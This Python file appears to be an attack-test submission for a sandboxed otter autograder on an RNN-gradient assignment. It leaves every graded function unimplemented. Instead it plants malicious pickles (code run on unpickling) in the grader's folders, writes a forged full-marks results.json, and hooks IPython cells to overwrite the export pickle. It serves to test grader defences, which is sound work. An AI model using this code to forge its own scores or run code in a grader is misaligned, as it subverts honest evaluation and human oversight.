"""Forge otter's results: plant pickles where otter unpickles, and a results.json with full marks.

In the old design otter unpickled what the kernel's export cell wrote, so a submission that
overwrote that pickle (or planted its own where ``otter run`` reads ``results/results.pkl``)
chose its own scores, or ran code in otter's process. From the kernel and from the sealed run,
this submission:

- learns the export cell's results path (a ``pre_run_cell`` hook reads the cell as it starts)
  and, once it has run, overwrites it with a pickle whose loading creates a canary file, i.e.
  code that would run in otter's own process;
- writes that pickle to every ``*.pkl`` in the grader's temporary folder and to
  ``../results/results.pkl`` (which ``otter run`` loads with dill at its very end);
- writes ``../results/results.json`` with full marks (``otter run`` copies it to ``-o``).

It implements none of the functions: it earns nothing.
"""

EXPECT = {"bptt_gradients": 0, "hidden_gradients": 0, "gradient_norms": 0,
          "truncated_bptt_gradients": 0, "clip_by_global_norm": 0}

NAME = "forge_results_pickle"

import os
import sys

CANARY = "/tmp/rnn-shapes-attack-canary"
"""The harness makes this folder world-writable and checks that it stays empty: only a step that
the sandbox should refuse can leave a file in it."""
BREACHES = []
SEALED = os.environ.get("HOME", "").endswith("/sealed")
"""True in the grader's sealed run (which runs every top-level statement too), else the kernel."""


def breach(what):
    """A step the sandbox should refuse worked: leave traces where the harness looks."""
    BREACHES.append(str(what)[:120])
    try:
        with open(f"{CANARY}/{NAME}-{os.getpid()}.txt", "a") as f:
            f.write(f"{'sealed' if SEALED else 'kernel'}: {what}\n")
    except OSError:
        pass


def tried(what, action):
    """Run ``action``; a breach if it works."""
    try:
        action()
    except BaseException:  # noqa: BLE001 - refused, as it should be
        return False
    breach(what)
    return True


def grader_tmp():
    """The grader's temporary folder: the sandbox's home is <tmp>/rnn-shapes-XXXX/<kernel|sealed>."""
    return os.path.dirname(os.path.dirname(os.environ.get("HOME") or "/tmp/x/y"))


def finish():
    """Say what worked where the grader shows it: an error of the script's last statement."""
    if BREACHES:
        raise RuntimeError(f"ATTACK-BREACH {NAME}: " + "; ".join(BREACHES))


import glob  # noqa: E402
import json  # noqa: E402
import pickle  # noqa: E402
import re  # noqa: E402

import numpy as np  # noqa: E402

POINTS = {"bptt_gradients": 3, "hidden_gradients": 2, "gradient_norms": 1,
          "truncated_bptt_gradients": 2, "clip_by_global_norm": 1}


class Payload:
    """Unpickled anywhere, it creates a canary file: code running in the unpickler's process."""

    def __reduce__(self):
        import builtins

        return (builtins.open, (f"{CANARY}/{NAME}-unpickled-by-the-grader.txt", "w"))


PICKLE = pickle.dumps(Payload())
FULL_MARKS = json.dumps({
    "score": sum(POINTS.values()),
    "tests": [{"name": q, "score": p, "max_score": p, "output": "All test cases passed!"} for q, p in POINTS.items()],
})


def plant(path, data):
    def write():
        with open(path, "wb") as f:
            f.write(data)
    tried(f"wrote {path}", write)


def plant_everywhere():
    tmp = grader_tmp()
    for path in glob.glob(os.path.join(tmp, "*.pkl")):
        plant(path, PICKLE)
    for results in {"../results", *glob.glob(os.path.join(tmp, "tmp*", "autograder", "results"))}:
        plant(os.path.join(results, "results.pkl"), PICKLE)
        plant(os.path.join(results, "results.json"), FULL_MARKS.encode())


plant_everywhere()

if not SEALED:
    try:
        from IPython import get_ipython

        shell = get_ipython()
        found = {}

        def spy(info):
            match = re.search(r'with open\("([^"]+\.pkl)", "wb"\)', getattr(info, "raw_cell", "") or "")
            if match:
                found["path"] = match.group(1)

        def overwrite(result):
            if "path" in found:
                plant(found["path"], PICKLE)
                plant_everywhere()

        shell.events.register("pre_run_cell", spy)
        shell.events.register("post_run_cell", overwrite)
    except Exception:  # noqa: BLE001
        pass


def bptt_gradients(X, y, Wx, Wh, bh, Wo, bo):
    raise NotImplementedError


def hidden_gradients(X, y, Wx, Wh, bh, Wo, bo):
    raise NotImplementedError


def gradient_norms(X, y, Wx, Wh, bh, Wo, bo):
    raise NotImplementedError


def truncated_bptt_gradients(X, y, Wx, Wh, bh, Wo, bo, k):
    raise NotImplementedError


def clip_by_global_norm(grads, clip_norm):
    raise NotImplementedError


finish()
